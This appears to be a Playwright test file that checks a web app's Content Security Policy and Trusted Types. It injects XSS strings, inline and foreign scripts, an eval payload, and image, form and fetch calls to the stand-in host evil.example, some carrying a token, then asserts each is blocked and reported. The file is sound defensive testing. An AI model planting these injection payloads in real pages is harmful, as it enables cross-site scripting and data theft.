import { expect, type Page, type Stack, test } from '../fixtures'
import { openSignedIn } from '../signed-in'

/** The gateway's logged errors, without the time. */
const reported = (logs: string): object[] =>
  logs
    .split('\n')
    .filter((line) => line.includes('"msg":"csp report"'))
    .map((line) => (JSON.parse(line) as { report: object }).report)

/** Attempts of hostile code in the page, and their outcome. */
const attack = (page: Page): Promise<Record<string, string>> =>
  page.evaluate(() => {
    const outcomes: Record<string, string> = {}
    const attempt = (name: string, work: () => unknown) => {
      try {
        work()
        outcomes[name] = 'went'
      } catch (error) {
        outcomes[name] = (error as Error).name
      }
    }
    const added = (name: string, attributes: Record<string, string> = {}) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const evil = '<img src=x onerror="document.title=1">'
    attempt('innerHTML', () => Object.assign(added('div'), { innerHTML: evil }))
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', evil))
    attempt('document.write', () => document.write(evil))
    attempt('inline script', () => added('script').append('document.title = 1'))
    attempt('script text', () => Object.assign(added('script'), { textContent: 'document.title = 1' }))
    attempt('script address', () => added('script', { src: 'https://evil.example/x.js' }))
    attempt('handler', () => added('b', { onclick: 'document.title = 1' }))
    attempt('srcdoc', () => added('iframe', { srcdoc: evil }))
    attempt('timer', () => setTimeout('document.title = 1' as unknown as () => void))
    attempt('policy of its own', () => trustedTypes.createPolicy('evil', { createHTML: String }))
    attempt('worker', () => new Worker('https://evil.example/x.js'))
    attempt('picture', () => added('img', { src: 'https://evil.example/?token=1' }))
    attempt('style', () => added('b', { style: 'background: url(https://evil.example/)' }))
    attempt('style sheet', () => added('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }))
    attempt('frame', () => added('iframe', { src: 'https://evil.example/' }))
    attempt('plug-in', () => added('object', { data: 'https://evil.example/x' }))
    attempt('base', () => added('base', { href: 'https://evil.example/' }).remove())
    attempt('form', () => {
      ;(added('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit()
    })
    fetch('https://evil.example/').catch(() => undefined)
    return outcomes
  })

/** Waits for this many more reports. */
const reportsSince = async (stack: Stack, before: number, count: number): Promise<object[]> => {
  await expect.poll(() => reported(stack.logs()).length - before, { timeout: 5_000 }).toBe(count)
  return reported(stack.logs()).slice(before)
}

const sinks = [
  'Element innerHTML',
  'Element insertAdjacentHTML',
  'Document write',
  'HTMLScriptElement text',
  'HTMLScriptElement textContent',
  'HTMLScriptElement src',
  'Element onclick',
  'HTMLIFrameElement srcdoc',
  'Window setTimeout',
  'Worker constructor',
  'HTMLObjectElement data',
]
const foreign = [
  'trusted-types',
  'style-src-attr',
  'style-src-elem',
  'base-uri',
  'connect-src',
  'img-src',
  'frame-src',
  'form-action',
]

test('the policy blocks hostile code and reports it without its data', async ({
  page,
  stack,
  violations,
}) => {
  await openSignedIn(page, 'ada')
  const title = await page.title()
  const before = reported(stack.logs()).length
  const outcomes = await attack(page)
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'went')).toEqual(
    // Loading is refused after the element is there.
    ['inline script', 'picture', 'style', 'style sheet', 'frame', 'base', 'form'].map((name) => [
      name,
      'went',
    ]),
  )
  const all = [...sinks.map(() => 'require-trusted-types-for'), ...foreign, 'base-uri'].sort()
  await expect.poll(() => violations.map(({ directive }) => directive).sort()).toEqual(all)
  expect(violations.filter(({ blocked }) => blocked === 'trusted-types-sink')).toHaveLength(sinks.length)
  violations.length = 0
  await expect
    .poll(() => page.evaluate(() => [document.title, location.pathname]))
    .toEqual([title, '/dashboard/sell'])

  const reports = await reportsSince(stack, before, all.length)
  expect(reports).toEqual(expect.arrayContaining(sinks.map((sink) => expect.objectContaining({ sink }))))
  expect(reports).toContainEqual({
    directive: 'img-src',
    blocked: 'https://evil.example',
    page: '/dashboard/sell',
  })
  expect(JSON.stringify(reports)).not.toMatch(/token|document\.title|onerror/)
})

test('injected inline, foreign and eval scripts do not run', async ({ page, stack, violations }) => {
  const before = reported(stack.logs()).length
  await page.route('**/login', async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace(
      '</head>',
      `<script>document.documentElement.id = 'inline'</script>
       <script src="https://evil.example/x.js"></script><script src="/evil.js"></script></head>`,
    )
    await route.fulfill({ response: answer, body })
  })
  await page.route('**/evil.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "eval('document.documentElement.id = 1')" }),
  )
  await page.goto('/login')
  await expect(page.getByLabel('Username or email')).toBeVisible()
  expect(await page.locator('html').getAttribute('id')).toBeNull()
  await expect
    .poll(() => violations.map(({ directive, blocked }) => `${directive} ${blocked}`))
    .toEqual([
      'script-src-elem inline',
      'script-src-elem https://evil.example/x.js',
      'require-trusted-types-for trusted-types-sink',
    ])
  violations.splice(0)
  expect(await reportsSince(stack, before, 3)).toContainEqual({
    directive: 'script-src-elem',
    blocked: 'inline',
    page: '/login',
  })
})
